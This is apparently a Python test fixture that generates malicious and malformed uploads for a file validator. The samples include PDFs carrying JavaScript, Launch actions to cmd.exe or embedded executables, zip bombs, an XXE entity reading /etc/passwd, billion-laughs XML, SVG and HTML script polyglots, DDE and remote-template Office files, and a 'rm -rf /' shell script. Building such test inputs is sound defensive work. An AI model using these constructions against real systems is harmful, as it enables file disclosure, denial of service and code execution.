"""Files nobody wants, made on the spot from a fixed seed: each with the code of the sentence it must earn."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from tests.evaluations.evidence.good_files import TYPES, WORD, docx, package, pdf, picture, saved, xlsx

SEED = 20240520
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = f'<Relationship Id="r9" Type="{_OFFICE}/{{}}" Target="{{}}" TargetMode="External"/>'
EXE = b"MZ\x90\x00" + bytes(60) + b"PE\x00\x00"


def script() -> Dictionary:
    """An action that runs JavaScript."""
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def random_bytes(size: int) -> bytes:
    """The same noise every time."""
    return random.Random(SEED).randbytes(size)  # noqa: S311


def png(width: int, height: int) -> bytes:
    """A PNG that claims a size; its pixels are one bit of white each, squeezed to almost nothing."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    packer = zlib.compressobj(9)
    line = bytes(1 + (width + 7) // 8)
    rows = b"".join(packer.compress(line) for _ in range(min(height, 2000))) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def frames(kind: str, count: int) -> bytes:
    """A picture that moves."""
    shades = [Image.new("RGB", (8, 8), (shade % 256, 0, 0)) for shade in range(count)]
    out = io.BytesIO()
    shades[0].save(out, kind, save_all=True, append_images=shades[1:])
    return out.getvalue()


def page_with(**entries: object) -> bytes:
    """A PDF whose only page carries these entries."""
    document = pikepdf.new()
    page = document.add_blank_page()
    for name, value in entries.items():
        page.obj[f"/{name}"] = value
    return saved(document)


def nested_action() -> bytes:
    """JavaScript four dictionaries deep, behind a link's next action."""
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
    link.A = Dictionary(S=Name.URI, URI="https://kla.go.id", Next=Array([Dictionary(S=Name.Named, Next=script())]))
    return page_with(Annots=Array([link]))


def escaped_name() -> bytes:
    """`/JavaScript` spelled with a hash code, `/JS` too."""
    return pdf(1, OpenAction=script()).replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/#4AS ")


def hidden_in_object_stream() -> bytes:
    """The same, squeezed into an object stream where no search of the bytes finds it."""
    document = pikepdf.open(io.BytesIO(pdf(1, OpenAction=script())))
    return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def embedded_program() -> bytes:
    """An attachment."""
    document = pikepdf.new()
    document.add_blank_page()
    document.attachments["faktur.exe"] = EXE
    return saved(document)


def locked(user: str) -> bytes:
    """With a password to open, or only one to change."""
    document = pikepdf.open(io.BytesIO(pdf()))
    return saved(document, encryption=pikepdf.Encryption(user=user, owner="rahasia", R=6))


def page_tree_loop() -> bytes:
    """A page tree that contains itself."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.Pages.Kids.append(document.Root.Pages)
    document.Root.Pages.Count = 1000
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def many_pages(count: int) -> bytes:
    """The same page again and again: small on disk, endless to draw."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(count))
    parts = [b"%PDF-1.4\n"]
    offsets = []
    bodies = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids)]
    bodies += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * count
    for number, body in enumerate(bodies, 1):
        offsets.append(sum(map(len, parts[-1:])) + (offsets[-1] if offsets else 0))
        parts.append(b"%d 0 obj%sendobj\n" % (number, body))
    start = sum(map(len, parts))
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    tail = b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF"
    return b"".join(parts) + tail % (count + 3, table, count + 3, start)


def deep(levels: int) -> bytes:
    """Arrays in arrays, to exhaust a reader's stack."""
    nest = b"[" * levels + b"/JavaScript" + b"]" * levels
    root = b"1 0 obj<</Type/Catalog/Pages 2 0 R/X " + nest + b">>endobj\n"
    pages = b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/MediaBox[0 0 9 9]>>endobj\n"
    return b"%PDF-1.4\n" + root + pages + b"trailer<</Root 1 0 R>>"


def blanks(megabytes: int) -> bytes:
    """A sheet that is nothing but blanks when inflated."""
    return xlsx(more={"xl/worksheets/sheet1.xml": b" " * (megabytes << 20)})


def lying_sizes() -> bytes:
    """The directory says a part is small; inflated it is not."""
    whole = bytearray(xlsx(rows=500))
    real = zipfile.ZipFile(io.BytesIO(whole)).getinfo("xl/worksheets/sheet1.xml").file_size
    return bytes(whole).replace(struct.pack("<I", real), struct.pack("<I", 40))


def overlapping() -> bytes:
    """Two names for one stretch of bytes, the way a small zip becomes an enormous one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml", TYPES.format(part="word/document.xml", main="wordprocessingml.document")
        )
        archive.writestr("word/document.xml", WORD * 50)
        twin = zipfile.ZipInfo("word/twin.xml")
        first = archive.getinfo("word/document.xml")
        for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
            setattr(twin, name, getattr(first, name))
        archive.filelist.append(twin)
        archive.NameToInfo[twin.filename] = twin
    return out.getvalue()


def empty_members(count: int) -> bytes:
    """Nothing, very often."""
    return package({"[Content_Types].xml": TYPES, **{f"word/{number}.xml": b"" for number in range(count)}})


def with_entities(*, external: bool, encoding: str = "utf-8") -> bytes:
    """A DTD in a sheet's strings: entities that read files, or that multiply."""
    if external:
        dtd = '<!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    else:
        multiplied = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
        dtd = f'<!DOCTYPE s [<!ENTITY l0 "ha">{multiplied}]>'
    text = f'<?xml version="1.0" encoding="{encoding}"?>{dtd}<sst><si><t>&l9;</t></si></sst>'
    return xlsx(more={"xl/sharedStrings.xml": text.encode(encoding)})


BAD: dict[str, tuple[Callable[[], bytes], str, str]] = {
    # what: (bytes, name, code)
    "program as pdf": (lambda: EXE, "sk.pdf", "program"),
    "elf as docx": (lambda: b"\x7fELF" + bytes(60), "sk.docx", "program"),
    "shell script as pdf": (lambda: b"#!/bin/sh\nrm -rf /\n", "sk.pdf", "program"),
    "svg as jpg": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "foto.jpg", "svg"),
    "svg with xml head": (lambda: b'<?xml version="1.0"?>\n<!-- x --><svg onload="alert(1)"/>', "foto.png", "svg"),
    "html as pdf": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", "sk.pdf", "html"),
    "gif html polyglot": (lambda: b"GIF89a/*<script>*/=alert(1)</script>", "foto.jpg", "unknown"),
    "old word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "sk.docx", "old_office"),
    "pdf after junk": (lambda: b"x" * 900 + pdf(), "sk.pdf", "pdf_after_junk"),
    "text": (lambda: b"SK Bupati nomor 1", "sk.pdf", "unknown"),
    "noise": (lambda: b"\x01" + random_bytes(4000), "sk.pdf", "unknown"),
    "nothing": (lambda: b"", "sk.pdf", "empty"),
    "pdf javascript": (lambda: pdf(1, OpenAction=script()), "sk.pdf", "pdf_javascript"),
    "pdf javascript escaped": (escaped_name, "sk.pdf", "pdf_javascript"),
    "pdf javascript in object stream": (hidden_in_object_stream, "sk.pdf", "pdf_javascript"),
    "pdf javascript nested": (nested_action, "sk.pdf", "pdf_javascript"),
    "pdf javascript on a page": (lambda: page_with(AA=Dictionary(O=script())), "sk.pdf", "pdf_javascript"),
    "pdf launch": (lambda: pdf(1, OpenAction=Dictionary(S=Name.Launch, F="cmd.exe")), "sk.pdf", "pdf_launch"),
    "pdf submit": (lambda: pdf(1, OpenAction=Dictionary(S=Name.SubmitForm, F="https://x.id")), "a.pdf", "pdf_form"),
    "pdf embedded": (embedded_program, "sk.pdf", "pdf_embedded"),
    "pdf rich media": (
        lambda: page_with(Annots=Array([Dictionary(Subtype=Name.RichMedia)])),
        "sk.pdf",
        "pdf_embedded",
    ),  # fmt: skip
    "pdf xfa": (lambda: pdf(1, AcroForm=Dictionary(XFA=Array(["x"]))), "sk.pdf", "pdf_xfa"),
    "pdf locked": (lambda: locked("sandi"), "sk.pdf", "pdf_encrypted"),
    "pdf locked for changes": (lambda: locked(""), "sk.pdf", "pdf_encrypted"),
    "pdf page tree loop": (page_tree_loop, "sk.pdf", "broken"),
    "pdf 2,001 pages": (lambda: many_pages(2001), "sk.pdf", "pdf_too_many_pages"),
    "pdf 100,000 arrays deep": (lambda: deep(100_000), "sk.pdf", "broken"),
    "pdf head only": (lambda: b"%PDF-1.7\n" + random_bytes(2000), "sk.pdf", "broken"),
    "picture 40,000 x 40,000": (lambda: png(40_000, 40_000), "foto.png", "picture_too_large"),
    "jpeg cut": (lambda: picture(size=(2000, 1500))[:9000], "foto.jpg", "broken"),
    "png cut": (lambda: picture("PNG", size=(900, 900))[:-200], "foto.png", "broken"),
    "animated png": (lambda: frames("PNG", 12), "foto.png", "picture_moves"),
    "animated webp": (lambda: frames("WEBP", 12), "foto.webp", "picture_moves"),
    "zip": (lambda: package({"sk.pdf": pdf()}), "sk.zip", "zip_unknown"),
    "zip of text": (lambda: package({"a.txt": b"a"}), "sk.docx", "zip_unknown"),
    "400 MB of blanks": (lambda: blanks(64), "rekap.xlsx", "zip_bomb"),
    "zip lying sizes": (lying_sizes, "rekap.xlsx", "broken"),
    "zip overlapping": (overlapping, "sk.docx", "zip_bomb"),
    "zip 2,001 members": (lambda: empty_members(2001), "sk.docx", "zip_bomb"),
    "zip in zip": (lambda: docx(word__media__x=package({"a": b"a"})), "sk.docx", "zip_nested"),
    "program in docx": (lambda: docx(word__embeddings__a=EXE), "sk.docx", "zip_nested"),
    "macro": (
        lambda: docx(word__vbaProject__bin=b"").replace(b"vbaProject/bin", b"vbaProject.bin"),
        "a.docx",
        "office_macro",
    ),
    "macro by type": (
        lambda: package(
            {
                "[Content_Types].xml": TYPES.format(part="w.xml", main="x").replace(
                    "application/vnd.openxmlformats-officedocument.x.main+xml",
                    "application/vnd.ms-word.document.macroEnabled.main+xml",
                ),
                "w.xml": WORD,
            }
        ),
        "sk.docx",
        "office_macro",
    ),  # fmt: skip
    "entity reads a file": (lambda: with_entities(external=True), "rekap.xlsx", "office_broken_xml"),
    "billion laughs": (lambda: with_entities(external=False), "rekap.xlsx", "office_broken_xml"),
    "entity in utf-16": (lambda: with_entities(external=True, encoding="utf-16"), "a.xlsx", "office_broken_xml"),
    "dde": (
        lambda: xlsx(more={"xl/externalLinks/e1.xml": "<a><ddeLink ddeService='cmd'/></a>"}),
        "a.xlsx",
        "office_calls_out",
    ),
    "webservice": (lambda: xlsx(more={"xl/worksheets/s2.xml": "<f>WEBSERVICE(A1)</f>"}), "a.xlsx", "office_calls_out"),
    "remote template": (
        lambda: docx(word___rels__settings=RELS.format(REL.format("attachedTemplate", "https://x.id/a.dotm"))).replace(
            b"word/_rels/settings", b"word/_rels/set.rels"
        ),
        "sk.docx",
        "office_calls_out",
    ),  # fmt: skip
    "cut xlsx": (lambda: xlsx(rows=400)[:-300], "rekap.xlsx", "broken"),
}
